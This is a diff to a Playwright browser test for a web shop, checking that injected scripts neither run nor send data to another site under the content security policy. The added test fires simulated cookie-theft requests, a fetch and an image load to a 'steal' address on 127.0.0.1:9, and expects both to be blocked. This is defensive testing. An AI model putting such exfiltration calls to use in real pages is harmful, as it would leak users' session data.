@@ -310,7 +310,7 @@ test('a cached page holds no customer data: two customers, one HTML for /', asyn
   }
 });
 
-test('a script put into a page does not run; our own scripts do, rendered on the server or in the browser', async ({ browser }) => {
+test('a script put into a page does not run, nor send anything to another site; our own scripts do, rendered on the server or in the browser', async ({ browser }) => {
   // A context of its own: the refusal this test causes is what it looks for (the fixture fails on any).
   const context = await browser.newContext();
   const refused: string[] = [];
@@ -336,6 +336,21 @@ test('a script put into a page does not run; our own scripts do, rendered on the
       await expect(page.getByRole('link', { name: /Cart/ }).first()).toBeVisible();
       await page.waitForFunction(() => document.querySelector('#root')?.hasChildNodes() && Object.keys(document.querySelector('#root > *') ?? {}).some((k) => k.startsWith('__react')));
       expect(await page.evaluate(() => (window as { __injected?: boolean }).__injected), path).toBeUndefined();
+      // A script that did get in could not send what it read to another site: neither by a request nor by a picture's
+      // address (the page may fetch from the API and the remotes only; pictures over http only from those too).
+      const stopped = await page.evaluate(
+        () =>
+          new Promise<string[]>((resolve) => {
+            const directives: string[] = [];
+            document.addEventListener('securitypolicyviolation', (event) => {
+              directives.push(event.effectiveDirective);
+              if (directives.length === 2) resolve(directives.sort());
+            });
+            void fetch('http://127.0.0.1:9/steal?cookie=1').catch(() => undefined);
+            new Image().src = 'http://127.0.0.1:9/steal.png?cookie=1';
+          }),
+      );
+      expect(stopped, path).toEqual(['connect-src', 'img-src']);
     }
     await expect.poll(() => refused.length).toBeGreaterThanOrEqual(2);
     expect(refused.every((text) => /inline script|evil\.js|127\.0\.0\.1:9/.test(text)), refused.join('\n')).toBe(true);
